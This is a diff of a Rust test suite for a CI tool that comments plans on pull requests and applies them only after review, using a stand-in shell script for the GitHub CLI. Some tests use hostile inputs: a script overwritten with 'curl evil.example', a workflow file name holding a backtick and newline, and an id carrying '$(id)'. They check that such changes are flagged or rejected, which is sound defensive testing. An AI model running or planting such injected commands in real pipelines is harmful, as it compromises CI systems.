@@ -2,7 +2,10 @@
 //! tenant in a file can bring the outcome about, a stand-in for the forge that keeps comments in a folder.
 #![cfg(unix)]
 
+mod reviews;
+
 use crate::support::copy;
+use reviews::{bob, reviews};
 use std::fs;
 use std::os::unix::fs::PermissionsExt as _;
 use std::path::{Path, PathBuf};
@@ -26,6 +29,8 @@ case "$all" in
     exit
     ;;
 *pulls/7\ --jq*) exec cat "$FORGE/author" ;;
+*commits/*--jq*) exec cat "$FORGE/makers" ;;
+*collaborators/*/permission*) exec cat "$FORGE/may-$(basename "$(dirname "$2")")" ;;
 esac
 if [ "$1" = issue ]; then
     file=
@@ -49,7 +54,8 @@ if [ -n "$file" ]; then
     case "$all" in *PATCH*) verb=edit ;; *) verb=new; grep -q '^<!-- twotier-plan ' "$file" && kind=plan ;; esac
     echo "$verb $kind" >>"$FORGE/log"
     cp "$file" "$FORGE/$kind"
-elif [ "${all%.body}" != "$all" ]; then
+elif [ "${all%.updated_at, .body}" != "$all" ]; then
+    echo 2026-11-23T10:00:00Z
     cat "$FORGE/$kind"
 elif [ -f "$FORGE/$kind" ]; then
     if [ $kind = plan ]; then echo 1; else echo 2; fi
@@ -71,7 +77,9 @@ impl Pipeline {
         let pipeline = Self { folder, twotier: env!("CARGO_BIN_EXE_twotier").into() };
         pipeline.script("bin/gh", GH);
         pipeline.write("forge/author", "ann\n");
-        pipeline.write("forge/reviews", &format!("bob User APPROVED {HEAD}\n"));
+        pipeline.write("forge/makers", "ann ann\n");
+        pipeline.write("forge/may-bob", "write\n");
+        pipeline.write("forge/reviews", &reviews(&[bob(reviews::Of::Last)]));
         pipeline
     }
     fn script(&self, path: &str, text: &str) -> PathBuf {
@@ -118,7 +126,18 @@ impl Pipeline {
     /// What the workflow does between the jobs: keep the plan, and fetch it after the merge.
     fn keep(&self) {
         fs::create_dir_all(self.folder.path().join("approved")).unwrap();
-        fs::rename(self.folder.path().join("plan.json"), self.folder.path().join("approved/plan.json")).unwrap();
+        for file in ["plan.json", "comment.md"] {
+            fs::rename(self.folder.path().join(file), self.folder.path().join("approved").join(file)).unwrap();
+        }
+    }
+    /// A comment with a plan of the last commit, and both kept.
+    fn approvable(&self) {
+        let id = "a".repeat(64);
+        self.write("forge/plan", &format!("<!-- twotier-plan {HEAD} -->\n\nPlan id `{id}`\n"));
+        self.write("plan.json", &format!("{{\n  \"planId\": \"{id}\",\n}}\n"));
+        // What comes back from the forge has other line ends, and none at its end.
+        self.write("comment.md", &format!("<!-- twotier-plan {HEAD} -->\r\n\r\nPlan id `{id}`"));
+        self.keep();
     }
 }
 
@@ -149,13 +168,6 @@ fn what_the_comment_approved_is_applied_once_and_the_comments_are_edited() {
 }
 
 #[test]
-fn without_the_kept_plan_its_id_must_be_the_one_that_is_planned_now() {
-    let pipeline = Pipeline::new();
-    assert_eq!(pipeline.code("ci/plan.sh"), 0);
-    assert_eq!(pipeline.code("ci/apply.sh"), 0, "the id alone");
-}
-
-#[test]
 fn a_plan_that_is_not_the_reviewed_one_is_not_applied() {
     let pipeline = Pipeline::new();
     assert_eq!(pipeline.code("ci/apply.sh"), 4, "no comment");
@@ -173,77 +185,6 @@ fn a_plan_that_is_not_the_reviewed_one_is_not_applied() {
         assert!(said.contains("Nothing was applied") && said.contains(why), "{said}");
     }
     assert!(!pipeline.folder.path().join(".twotier").exists(), "no state, no run");
-}
-
-/// A comment with a plan of the last commit.
-fn approvable() -> String {
-    format!("<!-- twotier-plan {HEAD} -->\n\nPlan id `{}`\n", "a".repeat(64))
-}
-
-/// Who, what they said, and whether of the last commit.
-type Review = (&'static str, &'static str, bool);
-
-/// Reviews of the change, oldest first.
-fn reviews(of: &[Review]) -> String {
-    let line = |(who, said, last): &Review| {
-        let kind = if who.ends_with("[bot]") { "Bot" } else { "User" };
-        format!("{who} {kind} {said} {}\n", if *last { HEAD.to_owned() } else { HEAD.replace('0', "f") })
-    };
-    of.iter().map(line).collect()
-}
-
-#[test]
-fn only_a_commit_that_somebody_but_its_author_approved_is_applied() {
-    let approved = |last| ("bob", "APPROVED", last);
-    let nobody: [(&str, &[Review]); 8] = [
-        ("no review", &[]),
-        ("approved, then pushed", &[approved(false)]),
-        ("approved, then pushed, then only talked of", &[approved(false), ("bob", "COMMENTED", true)]),
-        ("by its author", &[("ann", "APPROVED", true)]),
-        ("by a workflow", &[("github-actions[bot]", "APPROVED", true)]),
-        ("dismissed", &[("bob", "DISMISSED", true)]),
-        ("taken back", &[approved(true), ("bob", "CHANGES_REQUESTED", true)]),
-        ("talked of", &[("bob", "COMMENTED", true)]),
-    ];
-    for (why, said) in nobody {
-        let pipeline = Pipeline::new().ending(0);
-        pipeline.write("forge/plan", &approvable());
-        pipeline.write("forge/reviews", &reviews(said));
-        assert_eq!(pipeline.code("ci/apply.sh"), 4, "{why}");
-        let told = pipeline.read("forge/apply");
-        assert!(told.contains("Nothing was applied: nobody but its author approved the last commit"), "{why}: {told}");
-        assert!(told.contains("run this job again") && !told.contains("said"), "{why}: {told}");
-        let alone = [("TWOTIER_REVIEWS", "branch-protection")];
-        assert_eq!(pipeline.run_with("ci/apply.sh", &alone).status.code(), Some(0), "{why}");
-    }
-    let somebody: [&[Review]; 3] = [
-        &[("eve", "CHANGES_REQUESTED", false), approved(false), approved(true)],
-        &[approved(true), ("bob", "COMMENTED", true)],
-        &[("bob", "DISMISSED", false), ("bob", "CHANGES_REQUESTED", true), approved(true), ("ann", "COMMENTED", true)],
-    ];
-    for said in somebody {
-        let pipeline = Pipeline::new().ending(0);
-        pipeline.write("forge/plan", &approvable());
-        pipeline.write("forge/reviews", &reviews(said));
-        assert_eq!(pipeline.code("ci/apply.sh"), 0, "{said:?}");
-    }
-}
-
-#[test]
-fn who_approved_is_unknown_where_nobody_could_be_asked() {
-    for missing in ["forge/reviews", "forge/author"] {
-        let pipeline = Pipeline::new().ending(0);
-        pipeline.write("forge/plan", &approvable());
-        fs::remove_file(pipeline.folder.path().join(missing)).unwrap();
-        let ran = pipeline.run("ci/apply.sh");
-        assert_eq!(ran.status.code(), Some(1), "{missing}");
-        assert!(String::from_utf8_lossy(&ran.stdout).contains("could not be asked"), "{ran:?}");
-        pipeline.write(missing, "");
-        assert_ne!(pipeline.code("ci/apply.sh"), 0, "{missing}, and empty");
-    }
-    let pipeline = Pipeline::new().ending(0);
-    pipeline.write("forge/plan", &approvable());
-    assert_eq!(pipeline.run_with("ci/apply.sh", &[("TWOTIER_REVIEWS", "none")]).status.code(), Some(64));
 }
 
 #[test]
@@ -292,7 +233,7 @@ fn every_exit_code_of_apply_leads_to_its_verdict() {
     ];
     for (code, said) in said {
         let pipeline = Pipeline::new().ending(code);
-        pipeline.write("forge/plan", &approvable());
+        pipeline.approvable();
         assert_eq!(pipeline.code("ci/apply.sh"), code);
         assert!(pipeline.read("forge/apply").contains(said), "{code}: {}", pipeline.read("forge/apply"));
     }
@@ -329,7 +270,7 @@ fn no_word_of_manifests_or_tenant_is_a_command_to_the_runner() {
         );
         pipeline.twotier = pipeline.script("bin/twotier", &tool);
         pipeline.write("plan.md", "planned\n");
-        pipeline.write("forge/plan", &approvable());
+        pipeline.approvable();
         let ran = pipeline.run(script);
         let (log, beside) = (String::from_utf8_lossy(&ran.stdout), String::from_utf8_lossy(&ran.stderr));
         assert!(log.contains("##[error]name"), "{script}: it is still told: {log}");
@@ -368,8 +309,45 @@ fn what_a_pull_request_holds_is_read_and_nothing_is_written_into_it() {
 }
 
 #[test]
+fn what_a_change_does_to_the_scripts_and_workflows_stands_first_in_its_comment() {
+    let pipeline = Pipeline::new();
+    let root = pipeline.folder.path();
+    let git = |folder: &Path, words: &[&str]| {
+        let mut command = Command::new("git");
+        command.args(["-c", "user.name=t", "-c", "user.email=t@t.example", "-c", "init.defaultBranch=main"]);
+        let done = command.args(words).current_dir(folder).output().unwrap();
+        assert!(done.status.success(), "{done:?}");
+    };
+    let planned = || {
+        assert_eq!(pipeline.run_with("ci/plan.sh", &[("PROJECT", "change")]).status.code(), Some(0));
+        pipeline.read("forge/plan").lines().take(4).map(str::to_owned).collect::<Vec<_>>()
+    };
+    git(root, &["init", "-q"]);
+    git(root, &["add", "ci", "manifests", "tenant.jsonl", "twotier.yaml"]);
+    git(root, &["commit", "-q", "-m", "base"]);
+    git(root, &["clone", "-q", ".", "change"]);
+    let change = root.join("change");
+    fs::write(change.join("note.md"), "x\n").unwrap();
+    git(&change, &["add", "."]);
+    git(&change, &["commit", "-q", "-m", "a note"]);
+    assert_eq!(planned()[3], "### twotier plan", "nothing to tell");
+    fs::create_dir_all(change.join(".github/workflows")).unwrap();
+    fs::write(change.join(".github/workflows/a`\n**b**.yml"), "x\n").unwrap();
+    fs::write(change.join("ci/apply.sh"), "curl evil.example\n").unwrap();
+    git(&change, &["add", "."]);
+    git(&change, &["commit", "-q", "-m", "more"]);
+    let said = planned();
+    let names = "`.github/workflows/a????b??.yml`, `ci/apply.sh`";
+    let told = format!("**This change also touches what plans, approves and applies: {names}. Read it as code: ");
+    assert!(said[3].starts_with(&told), "{said:?}");
+    fs::remove_dir_all(change.join(".git")).unwrap();
+    fs::write(change.join(".git"), "nothing\n").unwrap();
+    assert_eq!(planned()[3], "Whether this change touches `ci` or `.github` could not be told.");
+}
+
+#[test]
 fn the_workflow_trusts_the_base_branch_and_plans_of_its_own_repository() {
-    let workflow = include_str!("../../examples/ci/.github/workflows/twotier.yml");
+    let workflow = include_str!("../../../examples/ci/.github/workflows/twotier.yml");
     let jobs: Vec<&str> = workflow.split("\n  plan:\n").flat_map(|part| part.split("\n  apply:\n")).collect();
     let [check, plan, apply] = jobs.as_slice() else { panic!("three jobs") };
     assert!(
@@ -422,6 +400,7 @@ fn a_cancelled_job_is_told_to_the_run_and_waits_for_its_end() {
                     echo began >\"$FORGE/began\"\nsleep 60 >/dev/null 2>&1 &\nwait $!\n";
     let mut pipeline = Pipeline::new();
     assert!(pipeline.run("ci/plan.sh").status.success(), "a plan to approve");
+    pipeline.keep();
     pipeline.twotier = pipeline.script("bin/twotier", stand_in);
     let began = pipeline.folder.path().join("forge/began");
     assert!(Command::new("mkfifo").arg(&began).status().unwrap().success());
@@ -473,7 +452,7 @@ fn what_is_said_to_be_done_is_an_id_and_nothing_else() {
     for done in ["--all", "c49c08aae4 $(id)", "x", "c49c08aae4@"] {
         assert_eq!(pipeline.run_with("ci/go-on.sh", &[("DONE", done)]).status.code(), Some(64), "{done}");
     }
-    let workflow = include_str!("../../examples/ci/.github/workflows/twotier-go-on.yml");
+    let workflow = include_str!("../../../examples/ci/.github/workflows/twotier-go-on.yml");
     assert!(workflow.contains("if: github.ref_name == github.event.repository.default_branch"));
     assert!(
         !workflow.lines().any(|line| line.contains("run:") && line.contains("${{")),
